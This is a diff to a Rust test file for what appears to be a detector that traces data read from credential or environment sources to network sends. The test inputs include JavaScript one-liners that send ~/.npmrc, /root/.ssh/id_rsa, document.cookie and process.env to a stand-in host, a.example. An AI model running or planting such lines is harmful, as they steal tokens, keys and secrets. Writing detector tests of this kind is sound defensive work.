@@ -252,6 +252,14 @@ fn what_is_read_is_followed_to_what_is_sent() {
         ),
         ("fetch('http://a.example', { body: document.cookie })", Source::Credential),
         (
+            "require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request('https://a.example', { method: 'PUT' }))",
+            Source::Credential,
+        ),
+        (
+            "const { pipeline } = require('stream'), fs = require('fs'); pipeline(fs.createReadStream('/root/.ssh/id_rsa'), require('zlib').createGzip(), require('https').request('https://a.example'), () => {})",
+            Source::Credential,
+        ),
+        (
             "function send(d) { fetch('http://a.example', { body: d }) } function read() { return process.env } send(JSON.stringify(read()))",
             Source::Environment,
         ),
